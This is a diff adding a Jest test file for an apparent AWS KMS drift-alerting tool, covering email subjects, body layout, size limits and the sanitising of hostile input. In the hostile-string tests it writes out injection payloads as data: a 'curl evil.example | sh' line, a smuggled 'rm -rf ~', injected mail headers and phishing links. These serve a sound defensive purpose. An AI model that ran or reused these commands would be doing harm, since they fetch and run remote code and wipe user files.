@@ -1,0 +1,215 @@
+import { formatEmail } from '../../lambda/alerts/email';
+import type { Finding } from '../../lambda/core/types';
+import {
+  ALL_FINDINGS,
+  deniedPutKeyPolicy,
+  enableKeyRotationResolved,
+  HOSTILE,
+  hostileDescription,
+  hostileTag,
+  hugeFinding,
+  KEY_ARN,
+  largePolicyChange,
+  putKeyPolicyOpened,
+  scheduleKeyDeletion,
+  stopLogging,
+} from './fixtures';
+import { UNSAFE_CHARACTERS } from './walk';
+
+const SNS_MAX_BYTES = 256 * 1024;
+const linesOf = (finding: Finding) => formatEmail(finding).body.split('\n');
+
+describe('formatEmail: subject', () => {
+  it('reads severity, event and summary for a critical policy drift', () => {
+    expect(formatEmail(putKeyPolicyOpened).subject).toBe(
+      '[CRITICAL] PutKeyPolicy: Key policy of alias/payments opened to account 444455556666 by Alice',
+    );
+  });
+
+  it('names the status when it is not plain drift, and cuts a long summary with an ellipsis', () => {
+    const { subject } = formatEmail(enableKeyRotationResolved);
+    expect(subject).toBe(
+      '[INFO][RESOLVED] EnableKeyRotation: Automatic rotation of key alias/payments enabled (every 365 da…',
+    );
+    expect(subject).toHaveLength(99);
+  });
+
+  it.each(ALL_FINDINGS)('is one line under 100 characters for the %s finding', (_name, finding) => {
+    const { subject } = formatEmail(finding);
+    expect(subject.length).toBeLessThan(100);
+    expect(subject).not.toMatch(UNSAFE_CHARACTERS);
+    expect(subject).toMatch(/^\[(CRITICAL|ERROR|WARNING|INFO)\]/);
+  });
+
+  it('cannot be split into extra mail headers by a description with CR/LF', () => {
+    expect(formatEmail(hostileDescription).subject).toBe(
+      '[ERROR] UpdateKeyDescription: Description of key alias/payments changed by @here to Payments key B…',
+    );
+  });
+});
+
+describe('formatEmail: body', () => {
+  it('states who, when and where for someone reading it at 3 a.m.', () => {
+    const lines = linesOf(putKeyPolicyOpened);
+    expect(lines[0]).toBe('Key policy of alias/payments opened to account 444455556666 by Alice');
+    expect(lines).toEqual(
+      expect.arrayContaining([
+        'Severity:  CRITICAL',
+        'Status:    drift (the resource now differs from its approved baseline)',
+        'Who:       arn:aws:iam::111122223333:user/Alice',
+        'When:      2022-09-01T20:06:16Z',
+        'Account:   111122223333',
+        'Region:    us-west-2',
+        `Resource:  ${KEY_ARN}`,
+        'Event:     PutKeyPolicy (kms)',
+        'eventId: c217db1f-903f-4a2f-8f88-9580182d6313',
+      ]),
+    );
+  });
+
+  it('lists the principals and external accounts a policy change added, then the policies as compact JSON', () => {
+    const lines = linesOf(putKeyPolicyOpened);
+    const at = lines.indexOf('policy');
+    expect(lines.slice(at, at + 4)).toEqual([
+      'policy',
+      '  added principals: arn:aws:iam::444455556666:root',
+      '  removed principals: (none)',
+      '  external accounts: 444455556666',
+    ]);
+    expect(lines[at + 4]).toBe(`  before: ${JSON.stringify(putKeyPolicyOpened.changes.policy!.before)}`);
+  });
+
+  it('shows a 32 KB policy by its size and principals instead of the document', () => {
+    const { body } = formatEmail(largePolicyChange);
+    expect(body).toMatch(/ {2}before: \(\d{2},\d{3} bytes, not shown: see the principals above\)/);
+    expect(body).toContain('  added principals: arn:aws:iam::444455556666:root');
+    expect(body).not.toContain('application-role-00100');
+  });
+
+  it('shows each state change before → after', () => {
+    const lines = linesOf(scheduleKeyDeletion);
+    const at = lines.indexOf('key_state');
+    expect(lines.slice(at, at + 7)).toEqual([
+      'key_state',
+      '  before: Enabled',
+      '  after:  PendingDeletion',
+      '',
+      'deletion_date',
+      '  before: (unknown)',
+      '  after:  2021-04-12T18:58:30Z',
+    ]);
+  });
+
+  it('gives every remediation command its own line, verbatim and ready to copy', () => {
+    const lines = linesOf(scheduleKeyDeletion);
+    const at = lines.indexOf(scheduleKeyDeletion.remediation[0]!);
+    expect(at).toBeGreaterThan(0);
+    expect(lines[at + 1]).toBe(scheduleKeyDeletion.remediation[1]);
+    expect(linesOf(putKeyPolicyOpened)).toContain(putKeyPolicyOpened.remediation[0]);
+  });
+
+  it('says why the severity is what it is', () => {
+    const lines = linesOf(putKeyPolicyOpened);
+    expect(lines).toContain('WHY CRITICAL');
+    expect(lines).toContain('- A change that lets another account, or anyone, use the key is critical.');
+  });
+
+  it('links the key in the KMS console and the trail in the CloudTrail console', () => {
+    expect(linesOf(putKeyPolicyOpened)).toContain(
+      'https://us-west-2.console.aws.amazon.com/kms/home?region=us-west-2#/kms/keys/1234abcd-12ab-34cd-56ef-1234567890ab',
+    );
+    expect(linesOf(stopLogging)).toContain(
+      'https://us-east-1.console.aws.amazon.com/cloudtrail/home?region=us-east-1#/trails/arn:aws:cloudtrail:us-east-1:143434273843:trail/stratus-red-team-ct-stop-trail-buykxbqejv',
+    );
+  });
+
+  it('reports the error of a denied call and that nothing changed', () => {
+    const lines = linesOf(deniedPutKeyPolicy);
+    expect(lines).toContain(`Error:     AccessDeniedException: ${deniedPutKeyPolicy.error!.message}`);
+    expect(lines).toContain('Nothing: the PutKeyPolicy call failed, so the resource is unchanged.');
+    expect(lines).toContain('Nothing to revert: the call failed. Find out why this principal tried it.');
+  });
+
+  it('says there is nothing to do for a resolved change', () => {
+    expect(linesOf(enableKeyRotationResolved)).toContain('Nothing to do: the resource is back at its baseline.');
+  });
+
+  it.each(ALL_FINDINGS)('stays within 64 KiB, well under the SNS limit, for the %s finding', (_name, finding) => {
+    const bytes = Buffer.byteLength(formatEmail(finding).body);
+    expect(bytes).toBeLessThanOrEqual(64 * 1024);
+    expect(bytes).toBeLessThan(SNS_MAX_BYTES);
+  });
+
+  it('cuts the changes of a huge finding first, keeping the reasons, console link and eventId', () => {
+    const { body } = formatEmail(hugeFinding, { maxBodyBytes: 12 * 1024 });
+    expect(Buffer.byteLength(body)).toBeLessThanOrEqual(12 * 1024);
+    expect(body).toContain(
+      '\n[Changes cut to fit the email: the full finding is in the keydrift drift history, by eventId.]\n',
+    );
+    expect(body).toContain('\nWHY CRITICAL\n');
+    expect(body).toContain('\nhttps://us-west-2.console.aws.amazon.com/kms/home?region=us-west-2#/kms/keys/');
+    expect(body).toContain('\neventId: 9e8d7c6b-5a49-4837-a625-1403f2e1d0c9\n');
+    expect(body.endsWith('Sent by keydrift.\n')).toBe(true);
+  });
+
+  it('shows whole commands up to a quarter of the body and counts the ones left out', () => {
+    const lines = linesOf(hugeFinding);
+    expect(lines.filter((line) => line.startsWith('aws kms tag-resource'))).toEqual(
+      hugeFinding.remediation.slice(0, 3),
+    );
+    expect(lines).toContain('# 27 more commands not shown: see the keydrift drift history');
+  });
+
+  it('honours a smaller body limit', () => {
+    expect(Buffer.byteLength(formatEmail(hostileTag, { maxBodyBytes: 8 * 1024 }).body)).toBeLessThanOrEqual(8 * 1024);
+  });
+});
+
+describe('formatEmail: hostile strings', () => {
+  it('keeps an injected "Bcc:" or "Subject:" line inside the description line', () => {
+    const lines = linesOf(hostileDescription);
+    expect(lines.filter((line) => /^(Bcc|Subject):/.test(line))).toEqual([]);
+    expect(lines).toContain(
+      '  after:  Payments key Bcc: x@evil.example Subject: all clear <!channel> rotate now ' +
+        '<hxxps://evil.example|click to restore access> RED here ```$(curl evil.example | sh)``` `x` ' +
+        '*bold* _italic_ ~strike~ [docs](hxxps://evil.example) @here look',
+    );
+  });
+
+  it('strips ANSI escapes and control characters everywhere and defangs attacker links', () => {
+    const { body } = formatEmail(hostileDescription);
+    expect(body.split('\n').filter((line) => UNSAFE_CHARACTERS.test(line))).toEqual([]);
+    expect(body).not.toContain('https://evil.example');
+  });
+
+  it('cuts a 40 KB tag value to the value limit and says how long it was', () => {
+    const { body } = formatEmail(hostileTag);
+    const full = JSON.stringify(hostileTag.changes.tags!.after);
+    expect(body).toContain(`[${full.length.toLocaleString('en-US')} characters in all]`);
+    expect(body).not.toContain(HOSTILE.hugeTagValue);
+    expect(Buffer.byteLength(body)).toBeLessThan(16 * 1024);
+  });
+
+  it('turns a remediation command with a line break into a comment, so pasting it runs nothing', () => {
+    const finding: Finding = {
+      ...hostileDescription,
+      remediation: [`aws kms update-key-description --key-id ${KEY_ARN} --description 'ok\nrm -rf ~'`],
+    };
+    const lines = linesOf(finding);
+    expect(lines).toContain(
+      '# control characters removed, check before running: ' +
+        `aws kms update-key-description --key-id ${KEY_ARN} --description 'ok rm -rf ~'`,
+    );
+    expect(lines.filter((line) => line.startsWith('rm '))).toEqual([]);
+  });
+
+  it('replaces a command too long to show whole with a comment instead of cutting it', () => {
+    const finding: Finding = {
+      ...putKeyPolicyOpened,
+      remediation: [`aws kms put-key-policy --policy '${'x'.repeat(20_000)}'`],
+    };
+    expect(linesOf(finding)).toContain(
+      '# a 20034-character command does not fit here: see changes.*.before in the keydrift drift history',
+    );
+  });
+});
